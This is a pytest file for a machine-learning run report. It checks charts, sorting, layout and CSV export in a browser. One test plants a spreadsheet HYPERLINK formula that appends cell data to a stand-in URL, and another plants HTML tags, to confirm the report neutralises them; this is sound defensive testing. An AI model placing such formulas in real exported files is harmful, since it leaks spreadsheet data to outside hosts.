"""The report in a real browser, and what its charts are made of."""

from __future__ import annotations

import csv
import math
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import replace
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from playwright.sync_api import Browser, Page

from cerebro_elastic.core.history.view import RunView
from cerebro_elastic.core.model.configs import Status
from cerebro_elastic.data.manifest import Manifest
from cerebro_elastic.recipes import Objective
from cerebro_elastic.reporting.page import curves, gantt, parallel
from cerebro_elastic.reporting.page.page import Report, ReportMetadata, read_metadata, render
from cerebro_elastic.reporting.page.scale import Scale
from cerebro_elastic.reporting.results import ConfigResult, leaderboard
from cerebro_elastic.reporting.tables import bytes_text
from cerebro_elastic.reporting.timeline import timeline
from support.browser import opened_browser


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with opened_browser() as browser:
        yield browser


@pytest.fixture(params=["light", "dark"])
def page(
    request: pytest.FixtureRequest, browser: Browser, past: Any, manifest: Manifest, tmp_path: Path
) -> Iterator[Page]:
    """The report of the run in which much went wrong, opened without a network; the console stays empty."""
    (tmp_path / "report.html").write_text(report(past, manifest), encoding="utf-8")
    context = browser.new_context(color_scheme=request.param, offline=True)
    page = context.new_page()
    heard: list[str] = []
    page.on("console", lambda message: heard.append(message.text))
    page.on("pageerror", lambda error: heard.append(str(error)))
    page.on("requestfailed", lambda request: heard.append(request.url))
    page.goto((tmp_path / "report.html").as_uri())
    yield page
    context.close()
    assert heard == []


def report(past: Any, manifest: Manifest | None) -> str:
    metadata = ReportMetadata("today", "0", {"Python": "3"})
    return render(Report(past.spec, past.events, Objective(metric="val_acc", mode="max"), manifest, metadata))


def column(page: Page, place: int) -> list[str]:
    return page.locator(f"#leaderboard tbody td:nth-child({place})").all_inner_texts()


def test_the_leaderboard_is_the_stores(page: Page, past: Any) -> None:
    rows = leaderboard(RunView(past.events), "val_acc", "max")
    assert column(page, 2) == [row.config for row in rows] == ["c0001", "c0002", "c0000", "c0003"]
    assert column(page, 3) == ["0.9", "0.7", "0.6", "-"]
    assert page.locator("#best").inner_text() == "0.9"
    assert "failed: the loss is NaN" in page.locator("#leaderboard").inner_text()


def test_a_heading_sorts(page: Page) -> None:
    heading = page.get_by_role("columnheader", name="val_acc")
    heading.click()
    assert column(page, 3) == ["0.6", "0.7", "0.9", "-"], "what has no value comes last"
    heading.press("Enter")
    assert column(page, 3) == ["0.9", "0.7", "0.6", "-"]
    assert heading.get_attribute("aria-sort") == "descending"


def test_every_unit_is_a_bar_that_says_what_it_was(page: Page) -> None:
    bars = page.locator("#gantt rect:not(.quarantined)")
    assert bars.count() == 12
    assert page.locator("#gantt rect.lost").count() == 2
    bars.first.hover()
    tip = page.locator("#tip")
    assert tip.is_visible()
    assert tip.inner_text().startswith("c0000 epoch 1 partition 0 on node-0, 0.00 s to 1.00 s")
    page.locator('#gantt path.fault[data-tip*="lost"]').focus()
    assert tip.inner_text() == "about 2.5 s: node-1 was lost"


def test_the_optimality_gap_is_shown(page: Page) -> None:
    text = " ".join(page.locator("#gap").inner_text().split())
    assert text.startswith("The run took 9.0 s; with the seconds that its units took")
    assert "before 5.6 s. Without hops, waits and lost work it would be 1.61 times as fast" in text


def test_a_config_is_shown_alone_while_its_row_has_the_focus(page: Page) -> None:
    def opacity(config: str) -> str:
        return str(
            page.locator(f'#space polyline[data-config="{config}"]').evaluate(
                "e => getComputedStyle(e).opacity"
            )
        )

    assert opacity("c0000") == "1"
    page.locator('#leaderboard tr[data-config="c0001"]').focus()
    assert (opacity("c0000"), opacity("c0001")) == ("0.12", "1")


def test_names_given_by_users_are_escaped(page: Page) -> None:
    assert '<b>odd & "quoted"</b>' in page.locator("#leaderboard").inner_text()
    assert page.locator("b", has_text="odd").count() == 0


def test_it_fits_a_narrow_screen_and_can_be_read(page: Page) -> None:
    page.set_viewport_size({"width": 400, "height": 800})
    assert page.evaluate("document.documentElement.scrollWidth") <= 400
    ink, ground = page.evaluate(
        "[getComputedStyle(document.body).color, getComputedStyle(document.body).backgroundColor]"
    )
    assert contrast(ink, ground) > 7


def contrast(one: str, other: str) -> float:
    """WCAG's contrast ratio of two ``rgb(r, g, b)``."""

    def light(colour: str) -> float:
        parts = [int(part) / 255 for part in colour.removeprefix("rgb(").removesuffix(")").split(",")]
        red, green, blue = (p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts)
        return 0.2126 * red + 0.7152 * green + 0.0722 * blue

    low, high = sorted((light(one), light(other)))
    return (high + 0.05) / (low + 0.05)


@pytest.mark.parametrize("events", [0, 4, 9, 16, 24])
def test_a_run_that_goes_on_has_a_report(past: Any, events: int) -> None:
    past.events = past.events[:events]
    text = report(past, None)
    assert "had not ended" in text
    assert "out of reach" in text


def test_the_costs_of_strategies_are_shown(past: Any) -> None:
    assert "How strategies did" not in report(past, None)
    tried = type(past)({"c0000": {"lr": 0.1}})
    tried.join("node-0", "node-1")
    tried.place()
    tried.visit("c0000", "node-0", 0.0)
    tried.try_on("c0000", "node-0", "node-1")
    text = report(tried, None)
    assert "How strategies did" in text
    assert "ddp x2 over 2 nodes" in text
    assert "5 MB" in text


def test_long_runs_stay_small(past: Any) -> None:
    """Bars that cannot be seen one by one are drawn together, but none is left out."""
    line = timeline(past.events)
    many = [span for span in line.spans for _ in range(500)]
    chart = gantt.gantt(type(line)(line.begin, line.begin + 1e6, many, line.marks, line.shares))
    assert chart is not None
    assert sum(len(lane.bars) for lane in chart.lanes) == 3
    assert chart.lanes[0].bars[0].tip == "3500 attempts at 3 configs"
    assert [tick.text for tick in chart.across][:2] == ["0 h", "100 h"]


def test_a_clones_curve_goes_on_where_its_parents_was() -> None:
    def row(name: str, curve: list[float], behind: int) -> ConfigResult:
        return ConfigResult(name, {}, Status.LIVE, "", [{"m": v} for v in curve], (), behind=behind)

    ((panel,),) = (
        g.panels for g in curves.groups([row("parent", [1.0, 2.0, 3.0], 0), row("clone", [4.0], 2)], "m")
    )
    parent, clone = panel.lines
    assert clone.dots[0].x == parent.dots[2].x == curves.RIGHT
    assert clone.dots[0].tip == "clone, epoch 3: m 4"


values = st.floats(allow_nan=True, allow_infinity=True) | st.floats(0, 1) | st.just(0.5)


@example([[0.5], [0.5]], [0.0, -0.0, 1, True, "1"])
@example([[0.0], [math.inf]], [0, 1, 2, 3, 4])
@given(
    st.lists(st.lists(values, max_size=4), max_size=5),
    st.lists(st.text() | st.booleans() | values, min_size=5),
)
def test_any_values_can_be_drawn(metrics: list[list[float]], settings: list[Any]) -> None:
    rows = [
        ConfigResult(
            config=f"c{i}",
            hparams={"a": settings[i], "b": i},
            status=Status.LIVE,
            reason="",
            curve=[{"m": value} for value in curve],
            visits=(),
            best=next((value for value in curve if math.isfinite(value)), None),
        )
        for i, curve in enumerate(metrics)
    ]
    drawn = [
        part
        for group in curves.groups(rows, "m")
        for panel in group.panels
        for line in panel.lines
        for part in line.parts
    ]
    chart = parallel.coordinates(rows, "m", {"a": True, "b": False})
    drawn += [path.points for path in chart.paths] if chart else []
    places = [float(place) for points in drawn for point in points.split() for place in point.split(",")]
    assert all(0 <= place <= 1000 for place in places)
    for axis in chart.axes if chart else ():
        heights = [tick.at for tick in axis.ticks]
        assert heights == sorted(heights)
        assert all(parallel.TOP <= at <= parallel.BOTTOM for at in heights)
        assert all(after - before >= 14 for before, after in pairwise(heights)), "texts do not overlap"


def placed(values: Sequence[Any], bests: Sequence[float] = (), log: Mapping[str, bool] | None = None) -> Any:
    """The axes for configs with these values of ``a``, and of the objective; heights from 0 to 1."""
    rows = [
        ConfigResult(f"c{i}", {"a": value}, Status.LIVE, "", (), (), best=best)
        for i, (value, best) in enumerate(zip(values, bests or range(len(values)), strict=True))
    ]
    chart = parallel.coordinates(rows, "m", log or {})
    assert chart is not None
    points = [[float(point.split(",")[1]) for point in path.points.split()] for path in chart.paths]
    height = parallel.BOTTOM - parallel.TOP
    return chart.axes, [
        [(parallel.BOTTOM - at) / height for at in heights] for heights in zip(*points, strict=True)
    ]


def test_axes_have_their_values_where_they_are() -> None:
    (_, metric), (_, heights) = placed([1, 2, 3], [0.90, 0.91, 0.50])
    assert heights == pytest.approx([0.4 / 0.41, 1.0, 0.0], abs=0.01)
    assert [tick.text for tick in metric.ticks] == ["0.91", "0.5"], "0.9 would overlap"
    heights = placed([1, 2, 10])[1][0]
    assert heights == pytest.approx([0.0, 1 / 9, 1.0], abs=0.01)


@pytest.mark.parametrize(
    ("values", "log", "heights"),
    [
        ([0.001, 0.01, 0.1], {}, [0.0, 0.5, 1.0]),
        ([0.001, 0.01, 0.1], {"a": False}, [0.0, 0.09, 1.0]),
        ([1, 2, 4], {"a": True}, [0.0, 0.5, 1.0]),
        ([1, 2, 4], {}, [0.0, 1 / 3, 1.0]),
        ([-1.0, 0.0, 100.0], {"a": True}, [0.0, 1 / 101, 1.0]),
        ([True, False, True], {}, [1.0, 0.0, 1.0]),
        (["b", "a", "c"], {}, [0.5, 0.0, 1.0]),
        ([0.1, None, 0.3], {}, [0.0, 1.0, 0.5]),
        ([10**400, 1, 2], {}, [0.5, 0.0, 1.0]),
    ],
)
def test_axes_by_the_kind_of_their_values(values: Any, log: dict[str, bool], heights: list[float]) -> None:
    assert placed(values, log=log)[1][0] == pytest.approx(heights, abs=0.01)


def test_a_nought_lies_below_a_logarithmic_axis() -> None:
    (axis, _), (heights, _) = placed([0.0, 0.0001, 0.01])
    assert axis.log
    assert heights[0] == 0.0
    assert 0.1 < heights[1] < 0.2
    assert [tick.text for tick in axis.ticks] == ["0.01", "0.0001", "0"]


def test_a_failure_between_long_waits_is_as_long_as_it_was(past: Any) -> None:
    """What is too short to be seen is not drawn over the time after it, nor over another's work."""
    line = timeline(past.events)
    short, visit = next(s for s in line.spans if s.lost), next(s for s in line.spans if s.visit)
    at = line.begin
    spans = [
        replace(short, node="node-0", start=at, end=at + 0.1),
        replace(short, node="node-0", start=at + 65.0, end=at + 65.1),
        replace(visit, node="node-0", start=at + 65.1, end=at + 500.0),
    ]
    chart = gantt.gantt(replace(line, end=at + 1000.0, spans=spans))
    assert chart is not None
    assert [(bar.lost, bar.width < 1) for bar in chart.lanes[0].bars] == [
        (True, True),
        (True, True),
        (False, False),
    ]


def curve(**metrics: Sequence[float]) -> ConfigResult:
    epochs = [dict(zip(metrics, values, strict=True)) for values in zip(*metrics.values(), strict=True)]
    return ConfigResult("c0", {}, Status.LIVE, "", epochs, ())


def test_training_lies_beside_validation() -> None:
    names = ("acc", "loss", "train/f1", "train_loss_epoch", "val/f1", "val_acc", "val_loss", "epoch")
    groups = curves.groups([curve(**dict.fromkeys(names, (1.0, 2.0)))], "val_loss")
    assert {group.name: [panel.metric for panel in group.panels] for group in groups} == {
        "loss": ["val_loss", "loss", "train_loss_epoch"],
        "acc": ["acc", "val_acc"],
        "epoch": ["epoch"],
        "f1": ["val/f1", "train/f1"],
    }
    assert groups[0].name == "loss", "the objective's comes first"


def test_charts_side_by_side_share_a_scale_where_that_helps() -> None:
    def heights(**metrics: Sequence[float]) -> list[list[float]]:
        (group,) = curves.groups([curve(**metrics)], "val_loss")
        return [[dot.y for dot in panel.lines[0].dots] for panel in group.panels]

    validation, training = heights(val_loss=[2.0, 1.0], train_loss=[1.5, 1.0])
    assert validation[1] == training[1]
    assert validation[0] < training[0] < training[1]
    validation, training = heights(val_loss=[0.9, 0.5], train_loss=[90.0, 50.0])
    assert validation == training == [curves.TOP, curves.BOTTOM]


def test_one_metric_can_be_chosen(browser: Browser, past: Any, tmp_path: Path) -> None:
    page = opened(browser, tmp_path, report(past, None))
    figures = page.locator("#curves figcaption")
    assert [text.split(",")[0] for text in figures.all_inner_texts()] == ["val_acc", "loss"]
    page.get_by_label("Metric").select_option("loss")
    assert [figures.nth(i).is_visible() for i in range(2)] == [False, True]
    page.get_by_label("Metric").select_option("all")
    assert [figures.nth(i).is_visible() for i in range(2)] == [True, True]
    assert "logged nothing while it trained" in page.locator("#curves").inner_text()
    page.close()


def opened(browser: Browser, folder: Path, text: str, width: int = 1200) -> Page:
    (folder / "report.html").write_text(text, encoding="utf-8")
    page = browser.new_page(viewport={"width": width, "height": 900}, offline=True, accept_downloads=True)
    page.goto((folder / "report.html").as_uri())
    return page


def downloaded(page: Page, name: str) -> list[list[str]]:
    with page.expect_download() as download:
        page.get_by_role("link", name=name, exact=True).last.click()
    return list(csv.reader(download.value.path().read_text(encoding="utf-8").splitlines()))


def test_tables_are_downloaded_as_csv(browser: Browser, past: Any, tmp_path: Path) -> None:
    past.state.configs["c0003"].hparams["act"] = '=HYPERLINK("http://x/?"&A1), "ü"'
    page = opened(browser, tmp_path, report(past, None))
    titles, *lines = downloaded(page, "leaderboard")
    assert titles[:6] == ["place", "config", "status", "reason", "metric", "best"]
    assert titles[-2:] == ["act", "lr"]
    assert [line[1] for line in lines] == ["c0001", "c0002", "c0000", "c0003"]
    assert lines[0][4:8] == ["val_acc", "0.9", "1", "2"]
    assert lines[3][-2] == '\'=HYPERLINK("http://x/?"&A1), "ü"', "a text, and no formula"
    titles, *lines = downloaded(page, "metrics of all epochs")
    assert titles == ["config", "epoch", "act", "lr", "loss", "val_acc"]
    assert len(lines) == 5
    page.close()


STORY = f"RuntimeError: {'shapes that cannot be multiplied ' * 200}(at net.py:12)"


@pytest.mark.parametrize("width", [500, 1200])
def test_a_long_failure_squeezes_nothing(browser: Browser, past: Any, tmp_path: Path, width: int) -> None:
    end = next(i for i, e in enumerate(past.events) if getattr(e, "status", None) is Status.FAILED)
    past.events[end] = replace(past.events[end], reason=STORY)
    page = opened(browser, tmp_path, report(past, None), width)
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    rows = [row.bounding_box() for row in page.locator("#leaderboard tbody tr").all()]
    assert all(row is not None and row["height"] < 45 for row in rows), "each is one line"
    status = page.locator("#leaderboard tbody td.status").last
    box = status.bounding_box()
    assert box is not None
    assert box["x"] + box["width"] <= width, "in view"
    status.locator("summary").click()
    assert STORY in status.inner_text(), "all of it, on request"
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    page.close()


@pytest.mark.parametrize("width", [500, 1200])
def test_the_search_space_can_be_read(browser: Browser, past: Any, tmp_path: Path, width: int) -> None:
    for i, config in enumerate(past.state.configs.values()):
        config.hparams.update(weight_decay=i / 10, batch_size=2**i, dropout=i / 7, layers=i)
    page = opened(browser, tmp_path, report(past, None), width)
    texts = page.locator("#coordinates text")
    boxes: list[Mapping[str, float]] = texts.evaluate_all(
        "all => all.map(e => e.getBoundingClientRect()).map(b => ({x: b.x, y: b.y, w: b.width, h: b.height}))"
    )
    assert len(boxes) > 20
    assert min(box["h"] for box in boxes) > 10, "no text is shrunk"
    assert all(box["x"] >= 0 and box["x"] + box["w"] <= width for box in boxes), "all axes are in view"
    for i, one in enumerate(boxes):
        for other in boxes[:i]:
            beside = one["x"] + one["w"] <= other["x"] + 1 or other["x"] + other["w"] <= one["x"] + 1
            # A line's box is higher than its letters.
            below = abs(one["y"] - other["y"]) >= 11
            assert beside or below, (one, other)
    page.close()


def test_gantt_and_table_agree_on_a_quarantine(browser: Browser, past: Any, tmp_path: Path) -> None:
    page = opened(browser, tmp_path, report(past, None))
    band = page.locator("#gantt rect.quarantined")
    share = next(share for share in timeline(past.events).shares if share.node == "node-2")
    seconds = f"{share.quarantined:.1f} s"
    assert (band.get_attribute("data-tip") or "").startswith(
        f"node-2 in quarantine for about {seconds}: its disk"
    )
    cells = page.locator("#nodes tbody tr", has_text="node-2").first.locator("td").all_inner_texts()
    heads = page.locator("#nodes thead").first.locator("th").all_inner_texts()
    assert dict(zip(heads, cells, strict=True))["quarantine"] == seconds
    page.close()


@pytest.mark.parametrize(
    ("low", "high", "log", "texts"),
    [
        (0.0, 1.0, False, ["0", "0.2", "0.4", "0.6", "0.8", "1"]),
        (0.91, 0.987, False, ["0.92", "0.94", "0.96", "0.98"]),
        (-3, 12, False, ["0", "5", "10"]),
        (1e-5, 1.0, True, ["1e-05", "0.0001", "0.001", "0.01", "0.1", "1"]),
        (2.0, 8.0, True, ["2", "4", "6", "8"]),
        (7.0, 7.0, False, ["7"]),
        (1.0, 1.0 + 1e-15, False, ["1"]),
        (0.91234, 0.91238, False, ["0.91234", "0.91235", "0.91236", "0.91237", "0.91238"]),
        (0.0, math.inf, False, ["0"]),
    ],
)
def test_marks_are_round(low: float, high: float, log: bool, texts: list[str]) -> None:
    scale = Scale(low, high, 100, 0, log=log)
    ticks = scale.ticks()
    assert [tick.text for tick in ticks] == texts
    assert all(0 <= tick.at <= 100 for tick in ticks)


@pytest.mark.parametrize(
    ("count", "text"),
    [(0, "0 B"), (999, "999 B"), (1000, "1 KB"), (81_499, "81.5 KB"), (4.02e12, "4.02 TB"), (8e16, "80 PB")],
)
def test_bytes_for_people(count: float, text: str) -> None:
    assert bytes_text(count) == text


def test_the_metadata_of_a_page_keep_the_names_of_version_0_1(past: Any) -> None:
    page = report(past, None)
    assert '<meta name="cerebro-colophon"' in page
    assert "&#34;kind&#34;:&#34;ReportMetadata&#34;" in page
    assert read_metadata(page) == ReportMetadata("today", "0", {"Python": "3"})
